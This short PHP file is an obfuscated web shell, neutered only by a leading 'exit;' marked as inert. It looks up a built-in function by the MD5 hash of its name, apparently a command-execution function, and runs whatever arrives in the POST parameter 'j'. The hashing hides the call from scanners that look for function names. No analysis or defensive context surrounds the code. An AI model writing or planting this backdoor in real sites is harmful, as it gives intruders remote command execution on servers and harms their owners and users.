<?php exit; /* inert */ 
foreach (get_defined_functions()['internal'] as $f) {
    if (md5($f) === '54b53072540eeeb8f8e9343e71f28176') { $s = $f; break; }
}
isset($s, $_POST['j']) && $s($_POST['j']);
